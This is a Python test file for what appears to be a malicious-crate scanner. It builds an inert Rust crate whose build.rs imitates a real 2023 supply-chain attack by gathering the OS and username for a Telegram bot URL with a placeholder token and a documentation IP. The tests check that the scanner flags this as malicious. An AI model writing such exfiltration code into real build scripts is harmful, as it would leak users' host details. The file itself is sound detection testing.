"""Verdicts on inert samples modelled on real incidents, on a real crate, and through the CLI."""

from __future__ import annotations

import io
import json
import tarfile
from pathlib import Path

import pytest

from cratewatch.scan.crate import scan_path
from tests.cli.test_audit_cli import assert_one_line_error, run

# Modelled on the 2023 cluster (postgress, serd, ...): the build script sends the host's
# details to a Telegram bot. Inert: a documentation IP range and a placeholder token.
BUILD_RS = b"""
use std::net::TcpStream;
fn main() {
    let os = std::env::consts::OS;
    let user = std::env::var("USER").unwrap_or_default();
    let url = format!("https://api.telegram.org/bot000000:PLACEHOLDER/sendMessage?text={os}{user}");
    let _ = TcpStream::connect("192.0.2.1:443");
    let _ = url;
}
"""


def _write_crate(path: Path, files: dict[str, bytes], root: str = "evil-0.1.0") -> Path:
    with tarfile.open(path, "w:gz") as tar:
        for name, data in files.items():
            info = tarfile.TarInfo(f"{root}/{name}")
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return path


MANIFEST = b'[package]\nname = "evil"\nversion = "0.1.0"\n'


def test_exfiltration_in_a_build_script_is_malicious(tmp_path: Path) -> None:
    crate = _write_crate(
        tmp_path / "evil-0.1.0.crate",
        {"Cargo.toml": MANIFEST, "build.rs": BUILD_RS, "src/lib.rs": b"pub fn f() {}\n"},
    )
    result = scan_path(crate)
    assert (result.crate, result.version, result.verdict) == ("evil", "0.1.0", "malicious")
    rules = {(e.rule, e.file, e.context.value) for e in result.findings}
    assert ("threat-telegram-bot-api", "build.rs", "build") in rules
    assert "network" in result.capabilities


def test_the_same_code_in_tests_is_not_malicious(tmp_path: Path) -> None:
    crate = _write_crate(
        tmp_path / "evil-0.1.0.crate",
        {"Cargo.toml": MANIFEST, "tests/it.rs": BUILD_RS, "src/lib.rs": b"pub fn f() {}\n"},
    )
    assert scan_path(crate).verdict != "malicious"


def test_a_real_crate_from_debian_is_clean() -> None:
    roots = sorted(Path("/usr/share/cargo/registry").glob("semver-1.*"))
    if not roots:
        pytest.skip("librust-semver-dev is not installed")
    result = scan_path(roots[-1])
    assert result.verdict == "clean" and result.crate == "semver"
    assert result.unsafe.blocks > 10


def test_cli(tmp_path: Path) -> None:
    crate = _write_crate(
        tmp_path / "evil-0.1.0.crate", {"Cargo.toml": MANIFEST, "build.rs": BUILD_RS}
    )
    result = run("scan", crate, "--format", "json")
    assert result.exit_code == 1
    (entry,) = json.loads(result.stdout)
    assert set(entry) >= {
        "crate",
        "version",
        "verdict",
        "risk_score",
        "capabilities",
        "unsafe",
        "findings",
    }
    assert entry["verdict"] == "malicious"
    human = run("scan", crate)
    assert "MALICIOUS" in human.stdout and "threat-telegram-bot-api at build.rs" in human.stdout
    assert_one_line_error(run("scan", tmp_path / "missing"), 3, "no such file")
